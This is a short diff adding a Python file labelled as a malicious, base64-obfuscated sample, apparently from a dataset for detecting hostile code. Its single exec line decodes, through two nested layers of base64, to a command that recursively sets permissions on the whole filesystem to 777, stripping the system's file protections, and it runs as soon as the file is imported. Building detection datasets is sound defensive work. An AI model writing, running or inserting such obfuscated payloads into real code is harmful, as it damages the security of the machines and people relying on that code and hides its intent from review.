@@ -1,0 +1,3 @@
+# label: malicious; obfuscated: base64,nested
+import base64
+exec(base64.b64decode("aW1wb3J0IGJhc2U2NDsgZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCdhVzF3YjNKMElHOXpPeUJ2Y3k1emVYTjBaVzBvSW1Ob2JXOWtJQzFTSURjM055QXZJaWs9Jykp"))
